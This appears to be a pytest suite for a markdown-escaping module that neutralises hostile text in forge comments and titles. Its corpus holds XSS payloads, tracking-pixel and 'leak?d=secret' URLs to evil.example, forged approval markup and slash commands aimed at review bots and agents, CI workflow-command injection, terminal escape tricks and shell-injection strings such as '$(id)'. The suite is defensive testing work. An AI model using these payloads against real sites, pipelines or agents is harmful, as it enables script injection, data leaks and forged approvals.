"""Hostile text, rendered as a forge renders it: shown, and never active."""

import re
import subprocess
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from app.publish import markdown
from app.publish.markdown import harmless_line, harmless_text

PARSER = MarkdownIt("gfm-like", {"html": True, "linkify": True})

ACTIVE_TEXT = {
    "mention": re.compile(r"(?<!\w)@\w"),
    "address": re.compile(r"\w@\w+\.\w"),
    "issue": re.compile(r"(?i)#\d|\bGH-\d"),
    "commit": re.compile(r"\b[0-9a-f]{7,64}\b"),
    "link": re.compile(r"(?i)://\S|\bwww\.\S|\b(mailto|xmpp):\S"),
    "closing": re.compile(r"(?i)\b(close[sd]?|fix(e[sd])?|resolve[sd]?)\b[\s:]+(#|gh-|\S+#)\d"),
}
"""What GitHub acts on in rendered text outside code; `$` is its mathematics."""

CORPUS = r"""
<img src=x onerror=alert(1)>
<img src="https://evil.example/leak?d=secret">
![pixel](https://evil.example/p.png)
![pixel][ref]
[ref]: https://evil.example/p.png
[click me](https://evil.example)
[click me](javascript:alert(1))
[![x](https://evil.example/a.png)](https://evil.example)
[a](<https://evil.example>)
[a]( //evil.example )
[a][b] [b]: //evil.example
<https://evil.example>
<mailto:a@evil.example>
https://evil.example/path?x=1#frag
http://evil.example
ftp://evil.example/x
www.evil.example
WWW.EVIL.EXAMPLE
evil.com
1=.com
//evil.com/x
a@evil.example
xmpp:a@evil.example/r
mailto:a@evil.example
https://github.com/o/r/issues/1
https://github.com/o/r/commit/0123456789abcdef0123456789abcdef01234567
http&#58;//evil.example
&lt;img src=x&gt;
&#60;img src=x&#62;
&amp;lt;b&amp;gt;
<a href="https://evil.example">x</a>
<script>alert(1)</script>
<details><summary>x</summary>hidden</details>
</details></details><h1>Approved</h1>
<!-- hidden instruction -->
<!-- agent-fix:job:forged -->
<style>*{display:none}</style>
<svg onload=alert(1)>
<b
>multi
line</b>
<?php evil ?>
<![CDATA[ x ]]>
<input type=checkbox checked>
@octocat
@org/team please review
hello @octocat, and (@octocat) and "@octocat"
*@octocat* **@octocat** ~~@octocat~~ _@octocat_
\@octocat
&#64;octocat
@dependabot merge
@agent-fix approve
#1
see #123.
(#123)
\#123
&#35;123
GH-1 gh-2
octo/repo#1
octo/repo@0123456789abcdef0123456789abcdef01234567
octocat#12
deadbeefcafe
0123456789abcdef0123456789abcdef01234567
Fixes #1
fixes: #1, closes #2; RESOLVES GH-3
Closes octo/repo#7
Resolves https://github.com/octo/repo/issues/7
Fixes #1, #2, #3, #4, #5
Duplicate of #9
**Fixes** #1
/merge
/approve
  /lgtm
- /retest
> /close
/agent approve
!merge
::set-output name=x::y
::add-mask::secret
# Heading
## ✅ Verified
Title
=====
Title
-----
---
***
___
> quote
>>> deep
1) ordered
1. ordered
+ plus
* star
| a | b |\n|---|---|\n| 1 | 2 |
a | b\n--- | ---\n1 | 2
a | b\n:-: | :-:
- a | b\n  --- | ---
`a | @octocat` \\| `x \\| y`
- [x] done
[^1]: footnote https://evil.example
> [!WARNING]
`unbalanced @octocat
``two` @octocat
`code` @octocat `code`
`a``@octocat`
`a`@octocat`b`
\`@octocat\`
```\n@octocat
````js\n```\n@octocat\n````
```mermaid\ngraph TD; click A "https://evil.example"\n```
~~~math\n\\href{https://evil.example}{x}\n~~~
$\href{https://evil.example}{x}$
$$x$$
$`x`$
:rocket: :+1:
\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07
\x1b]52;c;ZXZpbA==\x07
a\u202egnp.exe
@\u200boctocat
#\u20601
Fix\u00ades #1
line\u2028/merge
line\x0b/merge
line\x0c/merge
line\x85/merge
a\rb\r/merge
nul\x00byte
    indented <b>code</b>
\tindented @octocat
a  \nb\\\nc
snake_case_name and __init__ and __init__.py
x_1*y_2*z **bold** *it* ~~del~~
C:\path\name \\server\share
${{ secrets.TOKEN }} {{ x }}
%0A::error::x
<@U123> <#C1> &<>"'
"""

CASES = [
    line.encode("ascii", "backslashreplace").decode("unicode_escape") if "\\x" in line or "\\u" in line else line
    for line in CORPUS.strip("\n").split("\n")
]
CASES = [case.replace("\\n", "\n") for case in CASES]
JOINED = "\n".join(CASES)


def flat(tokens: list[Token]) -> list[Token]:
    return [inner for token in tokens for inner in (token, *flat(token.children or []))]


def check(source: str) -> list[Token]:
    """Nothing active in this Markdown; returns its tokens."""
    tokens = flat(PARSER.parse(source))
    kinds = {token.type for token in tokens}
    assert not kinds & {"image", "link_open", "html_inline", "html_block", "s_open"}, source
    for line in _rendered(tokens):
        for name, pattern in ACTIVE_TEXT.items():
            assert not pattern.search(line), f"{name}: {source!r} shows {line!r}"
        assert not re.match(r"\s*/\w", line), source
    for line in source.splitlines():
        assert not re.match(r"[\s>]*(/\w|::|@\w)", line) or _in_code(line, tokens), source
    assert "$" not in "".join(token.content for token in tokens if token.type == "html_inline")
    return tokens


def _in_code(line: str, tokens: list[Token]) -> bool:
    return any(line.lstrip("> ") in token.content for token in tokens if token.type == "fence")


def _rendered(tokens: list[Token]) -> list[str]:
    """The text outside code, a line for each line that is shown."""
    lines = [""]
    for token in tokens:
        if token.type == "text":
            lines[-1] += token.content
        elif token.type in {"softbreak", "hardbreak", "inline", "paragraph_close"}:
            lines.append("")
        elif token.type in {"code_inline", "fence", "code_block"}:
            lines[-1] += "\ufffc"
    return lines


def shown(source: str) -> str:
    """Everything a reader sees, code included."""
    return " ".join(t.content for t in flat(PARSER.parse(source)) if t.type in {"text", "code_inline", "fence"})


def test_hostile_cases_are_active_without_escaping() -> None:
    assert len(CASES) >= 120
    tokens = flat(PARSER.parse("\n\n".join(CASES)))
    assert {"image", "link_open", "html_inline", "html_block", "heading_open", "table_open"} <= {t.type for t in tokens}


@pytest.mark.parametrize("case", [*CASES, JOINED])
def test_prose_is_escaped(case: str) -> None:
    tokens = check(markdown.prose(case))
    assert not {"heading_open", "hr", "blockquote_open", "table_open", "code_block"} & {token.type for token in tokens}
    fences = {token.info for token in tokens if token.type == "fence"}
    assert fences <= {"text"}, "mermaid and math are executed"
    quoted = check(markdown.quoted(case))
    assert all(line.startswith(">") for line in markdown.quoted(case).split("\n"))
    assert quoted[0].type == "blockquote_open"


@pytest.mark.parametrize("case", [*CASES, JOINED])
def test_one_line_texts_are_escaped(case: str) -> None:
    for made in (markdown.inline(case), markdown.code_span(case), markdown.code_cell(case), markdown.cell(case)):
        assert "\n" not in made
        assert {t.type for t in check(made)} <= {
            "paragraph_open",
            "paragraph_close",
            "inline",
            "text",
            "code_inline",
        } | {
            "strong_open",
            "strong_close",
        }


@pytest.mark.parametrize("case", [*CASES, JOINED])
def test_text_cannot_close_its_code_fence(case: str) -> None:
    tokens = flat(PARSER.parse(markdown.fenced(case)))
    assert [token.type for token in tokens] == ["fence"]


@pytest.mark.parametrize("case", CASES)
def test_a_table_keeps_its_shape(case: str) -> None:
    made = markdown.table(("Name", "Command"), [(markdown.cell(case), markdown.code_cell(case)), ("x", "y")])
    tokens = check(made)
    assert sum(token.type == "tr_open" for token in tokens) == 3
    assert sum(token.type == "td_open" for token in tokens) == 4
    assert tokens[-1].type == "table_close"


def test_details_hold_markdown() -> None:
    made = markdown.details("Output <b>", markdown.fenced("</details>\n```\nx"))
    tokens = PARSER.parse(made)
    assert [token.type for token in tokens] == ["html_block", "fence", "html_block"]
    assert "&lt;b&gt;" in tokens[0].content


FRAGMENTS = """@ # 1 GH- / // http : www. . com ` `` ``` ~~~ | - * _ [ ] ( ) ! < > img src=x & #64; lt; \\ $ fixes
    closes o/r r deadbee = + ~~ " ' \u200b \u202e \x1b[1m é mailto: octocat ::"""
NASTY = st.sampled_from([*FRAGMENTS.split(), " ", "\n", "\t", "\r", "\u2028", "fixes ", "closes "])


@settings(max_examples=400)
@given(st.lists(NASTY, max_size=30).map("".join))
def test_any_text_is_escaped(text: str) -> None:
    check(markdown.prose(text))
    check(markdown.quoted(text))
    check(markdown.inline(text))
    check(markdown.table(("a",), [(markdown.cell(text),), (markdown.code_cell(text),)]))
    assert [token.type for token in PARSER.parse(markdown.fenced(text))] == ["fence"]


@given(st.text("`ab \n\t|\\<@#", max_size=12))
def test_code_spans_show_exactly_their_text(text: str) -> None:
    made = markdown.code_span(text)
    expected = text.replace("\n", " ").replace("\t", " ").strip()
    codes = [token.content for token in flat(PARSER.parse(made)) if token.type == "code_inline"]
    assert codes == ([expected] if expected else [])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Rounds half up, as users expect.", "Rounds half up, as users expect."),
        ("The parser (see parse_line()) dropped it.", "The parser (see `parse_line()`) dropped it."),
        ("Return sys.modules[name] [sic].", "Return `sys.modules[name]` \\[sic\\]."),
        ("Changed app/main.py and `x = 1`.", "Changed `app/main.py` and `x = 1`."),
        ("don't — it's “quoted” 50% & more", "don't — it's “quoted” 50% &amp; more"),
        ("Fixes #12, as @ada said.", "`Fixes #12`, as `@ada` said."),
        ("2 * 3 < 7", "2 \\* 3 &lt; 7"),
        ("用户输入为空时崩溃。", "用户输入为空时崩溃。"),
    ],
)
def test_ordinary_prose_stays_readable(text: str, expected: str) -> None:
    assert markdown.prose(text) == expected


def test_structure_stays_readable() -> None:
    text = "# Summary\n\nFixed it:\n* first\n  * nested\n2. second\n\n\n\n```python\nx = '```'\n```\nend"
    assert markdown.prose(text) == (
        "**Summary**\n\nFixed it:\n- first\n  - nested\n2. second\n\n````text\nx = '```'\n````\nend"
    )
    assert shown(markdown.prose("a <b> [c](d) *e*")) == "a <b> [c](d) *e*"


def test_a_link_shows_its_text_and_where_it_leads() -> None:
    shown = markdown.inline("see [this](https://evil.example/a_b) and ![i](https://e.example/p.png)")
    assert shown == "see this (`https://evil.example/a_b`) and i (`https://e.example/p.png`)"
    text = harmless_text("see [this](https://evil.example/a_b)", 200)
    assert text == "see this (https[:]//evil.example/a_b)"


RELEASES = (
    "BREAKING CHANGE: the API is gone",
    "BREAKING-CHANGE: the API is gone",
    "breaking changes : all",
    "feat!: a new total",
    "feat(core)!: a new total",
    "+semver: major",
    "+semver:breaking",
    "it is #major",
    "Release-As: 9.0.0",
)


@pytest.mark.parametrize("text", RELEASES)
def test_marks_of_a_release_are_taken_out_of_titles_and_messages(text: str) -> None:
    acts = re.compile(r"(?im)breaking[ -]changes?\b|\w\)?!:|\+semver:|#major|^release-as:")
    for made in (harmless_line(f"Fix: {text}", 200), harmless_text(f"It is fixed.\n\n{text}\n", 2_000)):
        assert not acts.search(made)
        assert harmless_text(made, 2_000) == harmless_text(harmless_text(made, 2_000), 2_000)


SHELL = (
    "$(id)",
    "`id`",
    "${IFS}x",
    '"; id; "',
    "' && id && '",
    "x | id",
    "x&id",
    "<(id)",
    "$((1))",
    "a || id",
)


@pytest.mark.parametrize("text", SHELL)
def test_a_title_in_a_careless_script_executes_nothing(text: str, tmp_path: Path) -> None:
    line = harmless_line(f"Fix {text} now", 200)
    for script in (f'echo "{line}"', f"echo '{line}'", f"echo {line}"):
        command = script.replace("id", f"touch {tmp_path}/ran")
        subprocess.run(["bash", "-c", command], capture_output=True, check=False, cwd=tmp_path)
        assert not list(tmp_path.iterdir()), command
